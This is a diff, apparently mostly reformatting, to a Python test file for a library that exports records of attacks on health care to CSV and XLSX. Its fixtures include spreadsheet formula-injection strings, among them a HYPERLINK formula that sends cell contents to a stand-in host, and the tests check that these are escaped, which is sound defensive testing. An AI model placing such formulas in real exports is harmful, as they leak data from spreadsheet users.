@@ -32,26 +32,87 @@ from carewatch_core.sensitivity import Level
 COLUMNS = (
     Column("reference", "Reference", Kind.TEXT, "incident", "reference", "#event+id"),
     Column("date_start", "Date", Kind.DATE, "incident", "date_start", "#date+start"),
-    Column("adm1_name_ar", "Governorate (Arabic)", Kind.TEXT, "incident", "governorate", "#adm1+name+i_ar"),
+    Column(
+        "adm1_name_ar",
+        "Governorate (Arabic)",
+        Kind.TEXT,
+        "incident",
+        "governorate",
+        "#adm1+name+i_ar",
+    ),
     Column("attack_types", "Attack types", Kind.LIST, "incident", "attack_types", "#event+type"),
-    Column("killed_hw", "Health workers killed", Kind.INTEGER, "incident", "counts", "#affected+healthworker+killed"),
+    Column(
+        "killed_hw",
+        "Health workers killed",
+        Kind.INTEGER,
+        "incident",
+        "counts",
+        "#affected+healthworker+killed",
+    ),
     Column("lat", "Latitude", Kind.NUMBER, "incident", "public_location", "#geo+lat"),
     Column("lon", "Longitude", Kind.NUMBER, "incident", "public_location", "#geo+lon"),
     Column("generated", "Generated", Kind.BOOLEAN, "incident", "is_generated", "#meta+generated"),
     Column("title", "Summary", Kind.TEXT, "incident", "title", "#description+title"),
 )
-FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
-            "＝1+1", "'=already quoted", "'plain quote"]
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    "'=already quoted",
+    "'plain quote",
+]
 ROWS = [
-    {"reference": "CW-2017-0001", "date_start": datetime.date(2017, 9, 19), "adm1_name_ar": "إدلب",
-     "attack_types": ["heavy_weapons", "fire"], "killed_hw": 2, "lat": 35.9, "lon": -36.5, "generated": False,
-     "title": "Airstrike, \"quoted\"; with, commas\nand a new line"},
-    {"reference": "CW-2017-0002", "date_start": datetime.date(2017, 9, 20), "adm1_name_ar": "حلب",
-     "attack_types": [], "killed_hw": None, "lat": None, "lon": None, "generated": True, "title": ""},
-    {"reference": "CW-2017-0003", "date_start": datetime.date(2018, 1, 1), "adm1_name_ar": "",
-     "attack_types": ["unknown"], "killed_hw": 0, "lat": -0.5, "lon": 0.25, "generated": False, "title": "x"},
-    *({"reference": f, "date_start": datetime.date(2019, 2, 3), "adm1_name_ar": f, "attack_types": ["other"],
-       "killed_hw": -3, "lat": 1.0, "lon": 2.0, "generated": False, "title": f} for f in FORMULAS),
+    {
+        "reference": "CW-2017-0001",
+        "date_start": datetime.date(2017, 9, 19),
+        "adm1_name_ar": "إدلب",
+        "attack_types": ["heavy_weapons", "fire"],
+        "killed_hw": 2,
+        "lat": 35.9,
+        "lon": -36.5,
+        "generated": False,
+        "title": 'Airstrike, "quoted"; with, commas\nand a new line',
+    },
+    {
+        "reference": "CW-2017-0002",
+        "date_start": datetime.date(2017, 9, 20),
+        "adm1_name_ar": "حلب",
+        "attack_types": [],
+        "killed_hw": None,
+        "lat": None,
+        "lon": None,
+        "generated": True,
+        "title": "",
+    },
+    {
+        "reference": "CW-2017-0003",
+        "date_start": datetime.date(2018, 1, 1),
+        "adm1_name_ar": "",
+        "attack_types": ["unknown"],
+        "killed_hw": 0,
+        "lat": -0.5,
+        "lon": 0.25,
+        "generated": False,
+        "title": "x",
+    },
+    *(
+        {
+            "reference": f,
+            "date_start": datetime.date(2019, 2, 3),
+            "adm1_name_ar": f,
+            "attack_types": ["other"],
+            "killed_hw": -3,
+            "lat": 1.0,
+            "lon": 2.0,
+            "generated": False,
+            "title": f,
+        }
+        for f in FORMULAS
+    ),
 ]
 
 
@@ -62,7 +123,13 @@ def _expected(rows: list[dict[str, object]]) -> list[dict[str, object]]:
 
 def _xlsx(columns: tuple[Column, ...], rows: list[dict[str, object]]) -> bytes:
     out = io.BytesIO()
-    write_xlsx(out, columns, rows, dictionary=list(dictionary_rows(columns)), dictionary_columns=DICTIONARY_COLUMNS)
+    write_xlsx(
+        out,
+        columns,
+        rows,
+        dictionary=list(dictionary_rows(columns)),
+        dictionary_columns=DICTIONARY_COLUMNS,
+    )
     return out.getvalue()
 
 
@@ -107,11 +174,15 @@ def test_risky_text_gets_a_leading_quote_in_csv(text: str) -> None:
     data = b"".join(csv_chunks(COLUMNS[:1], [{"reference": text}])).decode()
     cell = list(csv.reader(io.StringIO(data)))[1][0]
     assert cell == "'" + text
-    assert f'"\'{text[:1]}' in data  # quoted, and the quote comes first
+    assert f"\"'{text[:1]}" in data  # quoted, and the quote comes first
 
 
 def test_negative_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
-    data = b"".join(csv_chunks(COLUMNS, [{"killed_hw": -3, "lat": -0.5, "title": "Hospital 2-B", "reference": "a-b"}])).decode()
+    data = b"".join(
+        csv_chunks(
+            COLUMNS, [{"killed_hw": -3, "lat": -0.5, "title": "Hospital 2-B", "reference": "a-b"}]
+        )
+    ).decode()
     line = data.splitlines()[1]
     assert ",-3," in line and ",-0.5," in line
     assert '"Hospital 2-B"' in line and '"a-b"' in line
@@ -133,7 +204,9 @@ def test_xlsx_stores_risky_text_as_quoted_strings_never_formulas() -> None:
     assert all(c.data_type == "s" for c in cells)  # a string, never a formula ("f")
     assert [c.quotePrefix for c in cells] == [not text.startswith("'") for text in FORMULAS]
     killed = [row[4] for row in sheet.iter_rows(min_row=5)]
-    assert all(c.data_type == "n" and c.value == -3 for c in killed)  # a negative number stays a number
+    assert all(
+        c.data_type == "n" and c.value == -3 for c in killed
+    )  # a negative number stays a number
 
 
 # Streaming: rows are pulled as the file is written, in batches.
@@ -169,8 +242,14 @@ def test_xlsx_writes_thousands_of_rows() -> None:
 def test_the_dictionary_lists_exactly_the_exported_columns() -> None:
     rows = list(dictionary_rows(COLUMNS))
     assert [r["field"] for r in rows] == [c.name for c in COLUMNS]
-    assert rows[0] == {"field": "reference", "label": "Reference", "type": "text", "sensitivity": "public",
-                       "hxl": "#event+id", "description": ""}
+    assert rows[0] == {
+        "field": "reference",
+        "label": "Reference",
+        "type": "text",
+        "sensitivity": "public",
+        "hxl": "#event+id",
+        "description": "",
+    }
     assert rows[-1]["sensitivity"] == "internal"  # incident.title
     book = openpyxl.load_workbook(io.BytesIO(_xlsx(COLUMNS, ROWS)), read_only=True)
     sheet_rows = list(book["dictionary"].iter_rows(values_only=True))
@@ -178,7 +257,9 @@ def test_the_dictionary_lists_exactly_the_exported_columns() -> None:
     assert [r[0] for r in sheet_rows[1:]] == [c.name for c in COLUMNS]
 
 
-def test_columns_for_a_reader_follow_the_sensitivity_table_and_never_carry_restricted_values() -> None:
+def test_columns_for_a_reader_follow_the_sensitivity_table_and_never_carry_restricted_values() -> (
+    None
+):
     exact = Column("exact_lat", "Exact latitude", Kind.NUMBER, "incident", "exact_lat")
     columns = (*COLUMNS, exact)
     assert "title" not in [c.name for c in columns_for(columns, Level.PUBLIC)]
